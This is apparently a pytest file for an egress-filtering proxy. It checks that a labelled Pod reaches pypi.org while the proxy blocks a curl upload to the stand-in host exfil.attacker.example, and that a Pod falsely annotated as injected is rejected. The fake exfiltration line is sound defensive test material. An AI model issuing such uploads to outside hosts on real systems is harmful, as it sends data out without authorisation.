"""`intercept run --pod FILE`: a labelled Pod manifest is injected, run against a lab, its
containers' output comes prefixed by their names, and the exit status is the workload's."""

from __future__ import annotations

import shutil
import subprocess
import sys
import tempfile
from pathlib import Path

import pytest

from intercept_proxy.decision import parse_log
from intercept_proxy.lab.control import read_receipts

pytestmark = pytest.mark.netns

LAB = "hosts: [{name: pypi.org}, {name: exfil.attacker.example}]\n"
POLICY = "allowed_domains: [pypi.org]\n"
POD = """\
apiVersion: v1
kind: Pod
metadata: {name: agent, labels: {intercept-proxy/enabled: "true"}}
spec:
  securityContext: {runAsUser: 12345}
  initContainers:
    - {name: prep, image: busybox:1.36, command: [sh, -c, "echo prepared"]}
  containers:
    - name: app
      image: busybox:1.36
      command:
        - sh
        - -c
        - |
          for url in https://pypi.org/simple/ https://exfil.attacker.example/upload; do
            curl -s -o /dev/null -w "%{http_code} $url\\n" "$url"
          done
          exit 5
"""


@pytest.fixture
def workdir():
    path = Path(tempfile.mkdtemp(prefix="run-pod-test-", dir="/tmp"))
    yield path
    shutil.rmtree(path, ignore_errors=True)


def test_a_pod_manifest_runs_injected_against_a_lab(workdir):
    for name, text in (("lab.yaml", LAB), ("policy.yaml", POLICY), ("pod.yaml", POD)):
        (workdir / name).write_text(text)
    run = subprocess.run(
        [sys.executable, "-m", "intercept_proxy", "run", "--pod", "pod.yaml",
         "--policy", "policy.yaml", "--lab", "lab.yaml",
         "--lab-log", "lab.log", "--decision-log", "decisions.log"],
        capture_output=True, text=True, cwd=workdir, timeout=180, check=False,
    )  # fmt: skip
    assert run.returncode == 5, run.stderr
    lines = run.stderr.splitlines()
    assert "[prep] prepared" in lines
    assert "[app] 200 https://pypi.org/simple/" in lines
    assert "[app] 403 https://exfil.attacker.example/upload" in lines
    assert any(line.startswith("[proxy-init] -A INTERCEPT_REDIRECT") for line in lines)

    decisions = parse_log((workdir / "decisions.log").read_text(), strict=True)
    assert [(d.host, d.allow) for d in decisions] == [
        ("pypi.org", True),
        ("exfil.attacker.example", False),
    ]
    requests = [r for r in read_receipts(workdir / "lab.log") if r["method"]]
    assert [(r["host"], r["method"], r["path"]) for r in requests] == [
        ("pypi.org", "GET", "/simple/")
    ]


def test_a_pod_claiming_to_be_injected_is_verified(workdir):
    fake = POD.replace(
        'labels: {intercept-proxy/enabled: "true"}}',
        'labels: {intercept-proxy/enabled: "true"},'
        ' annotations: {intercept-proxy/injected: "true"}}',
    )
    assert fake != POD
    (workdir / "pod.yaml").write_text(fake)
    run = subprocess.run(
        [sys.executable, "-m", "intercept_proxy", "run", "--pod", "pod.yaml"],
        capture_output=True, text=True, cwd=workdir, timeout=60, check=False,
    )  # fmt: skip
    assert run.returncode == 2, run.stderr
    assert "spec.initContainers[0] (proxy-init)" in run.stderr
    assert "annotated intercept-proxy/injected" in run.stderr
